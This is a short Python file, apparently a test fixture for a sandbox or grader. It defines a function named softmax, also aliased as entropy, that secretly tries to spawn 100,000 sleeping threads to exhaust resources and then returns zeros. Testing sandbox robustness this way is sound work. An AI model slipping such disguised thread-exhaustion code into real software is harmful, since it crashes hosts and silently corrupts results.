"""Threads are made until no more can be.

Must: no task passes, and nothing is touched.
"""

import threading
import time


def softmax(x, *, temperature=1.0):
    try:
        for _ in range(100_000):
            threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
    except (RuntimeError, MemoryError):
        pass
    return x * 0


entropy = softmax
